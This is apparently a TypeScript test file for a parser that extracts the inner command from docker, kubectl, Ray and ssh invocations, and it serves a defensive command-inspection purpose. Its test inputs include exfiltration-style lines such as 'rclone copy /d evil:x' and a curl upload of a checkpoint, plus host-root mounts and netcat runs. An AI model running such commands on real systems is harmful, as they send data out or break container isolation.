/**
 * `remoteRun` (exec-wrappers.ts): the command a tool runs somewhere else, as its words give it —
 * in a Ray job, another pod, another host, or a container the pod's runtime starts. Read as the
 * tools parse their options, so no option value is taken for the command.
 */
import { describe, expect, it } from 'vitest';
import { remoteRun } from './exec-wrappers.js';

const run = (line: string): ReturnType<typeof remoteRun> => remoteRun(line.split(' '), 0);

describe('remoteRun: container CLIs', () => {
  it('reads docker / podman / nerdctl run: the words after the image, past run\'s options', () => {
    expect(run('docker run --rm -v /mnt/ckpt:/d alpine sh -c x')).toEqual({ argv: ['sh', '-c', 'x'] });
    expect(run('docker run -it --rm --network host --name n -p 80:80 alpine nc h 1')).toEqual({ argv: ['nc', 'h', '1'] });
    expect(run('podman run -dit -v /a:/b --env=A=1 img ls /b')).toEqual({ argv: ['ls', '/b'] });
    expect(run('nerdctl run --gpus all --privileged img nvidia-smi')).toEqual({ argv: ['nvidia-smi'] });
    expect(run('docker container run --rm img echo hi')).toEqual({ argv: ['echo', 'hi'] });
    // A short cluster whose value-taking letter is last takes the next word; one with letters after it takes them.
    expect(run('docker run -dv /:/host img sh')).toEqual({ argv: ['sh'] });
    expect(run('docker run -v/:/host img sh')).toEqual({ argv: ['sh'] });
    expect(run('docker run --rm -- img sh -c y')).toEqual({ argv: ['sh', '-c', 'y'] });
  });

  it('runs the entrypoint given with the command as its arguments', () => {
    expect(run('docker run --rm --entrypoint sh alpine -c x')).toEqual({ argv: ['sh', '-c', 'x'] });
    expect(run('docker run --entrypoint=/bin/bash img -c x')).toEqual({ argv: ['/bin/bash', '-c', 'x'] });
    expect(run('docker run --rm --entrypoint bash img')).toEqual({ argv: ['bash'] });
  });

  it('gives images whose entrypoint is their tool that tool, unless the command names it', () => {
    expect(run('docker run --rm docker.io/curlimages/curl:8.5.0 -T /d/m.pt https://h/u')).toEqual({ argv: ['curl', '-T', '/d/m.pt', 'https://h/u'] });
    expect(run('docker run --rm curlimages/curl curl -s https://h')).toEqual({ argv: ['curl', '-s', 'https://h'] });
    expect(run('docker run amazon/aws-cli@sha256:abc s3 ls')).toEqual({ argv: ['aws', 's3', 'ls'] });
    expect(run('docker run rclone/rclone copy /d evil:x')).toEqual({ argv: ['rclone', 'copy', '/d', 'evil:x'] });
  });

  it('runs nothing it can read when the image runs its own command, and leaves crictl run (config files) and other verbs', () => {
    expect(run('docker run -d --name redis -p 6379:6379 redis:7')).toBeNull();
    expect(run('docker run --rm')).toBeNull();
    expect(run('docker run --rm curlimages/curl')).toBeNull();
    expect(run('crictl run container.json pod.json')).toBeNull();
    expect(run('docker ps -a')).toBeNull();
    expect(run('docker pull alpine')).toBeNull();
  });

  it('reads docker exec and container exec: the words after the container, past exec\'s options', () => {
    expect(run('docker exec -it -u root c1 sh -c x')).toEqual({ argv: ['sh', '-c', 'x'] });
    expect(run('docker container exec -w /tmp c1 ls')).toEqual({ argv: ['ls'] });
    expect(run('crictl exec -it c1 sh')).toEqual({ argv: ['sh'] });
    expect(run('docker exec c1')).toBeNull();
  });
});

describe('remoteRun: kubectl, Ray and ssh', () => {
  it('reads kubectl exec\'s and create job / cronjob / deployment\'s command after --, a Ray entrypoint, and ssh\'s remote line as a script', () => {
    expect(run('kubectl exec -n ml trainer-0 -- sh -c x')).toEqual({ argv: ['sh', '-c', 'x'] });
    // A Job, a CronJob (on its schedule) or a Deployment created with a command runs it.
    expect(run('kubectl create cronjob x --image=alpine --schedule=@hourly -- sh -c x')).toEqual({ argv: ['sh', '-c', 'x'] });
    expect(run('kubectl -n ml create job j --image=alpine -- nc h 1')).toEqual({ argv: ['nc', 'h', '1'] });
    expect(run('oc create deployment d --image=alpine -- sleep 1')).toEqual({ argv: ['sleep', '1'] });
    expect(run('kubectl create configmap c --from-literal=a=b -- x')).toBeNull();
    expect(run('kubectl create job j --image=alpine')).toBeNull();
    expect(run('ray job submit --address http://h:8265 -- python x.py')).toEqual({ argv: ['python', 'x.py'] });
    expect(run('ssh -i /tmp/k u@h curl -s x')).toEqual({ line: 'curl -s x' });
    expect(run('ssh -N -L 1:h:2 u@h')).toBeNull();
  });
});

describe('remoteRun on hostile words', () => {
  // Seeded: the same words every run.
  let seed = 27;
  const rnd = (n: number): number => {
    seed = (seed * 1103515245 + 12345) >>> 0;
    return seed % n;
  };
  const VOCAB = [
    'docker', 'podman', 'nerdctl', 'crictl', 'kubectl', 'oc', 'ssh', 'autossh', 'ray', 'curl', 'wget', 'http', 'xh',
    'run', 'exec', 'container', 'create', 'cronjob', 'job', 'submit', '--', '-', '-d', '-v', '-it', '-dv', '--entrypoint', '--entrypoint=',
    '--rm', '--data-raw', '--json', '--post-data={"entrypoint":"id"}', 'entrypoint=id', 'entrypoint:=["x"]', '{"entrypoint":"id"}',
    '{"entrypoint":', 'http://h:8265/api/jobs/', 'curlimages/curl', 'img@sha256:', ':', '/', '', '-N', '-M', 'u@h', 'x',
  ];

  it('never throws, and gives argv words or a line', () => {
    for (let n = 0; n < 3000; n++) {
      const words = Array.from({ length: 1 + rnd(12) }, () => VOCAB[rnd(VOCAB.length)]!);
      for (let t = 0; t < words.length; t++) {
        const r = remoteRun(words, t);
        if (r === null) continue;
        if ('line' in r) expect(typeof r.line).toBe('string');
        else expect(r.argv.every((w) => typeof w === 'string')).toBe(true);
      }
    }
  });
});
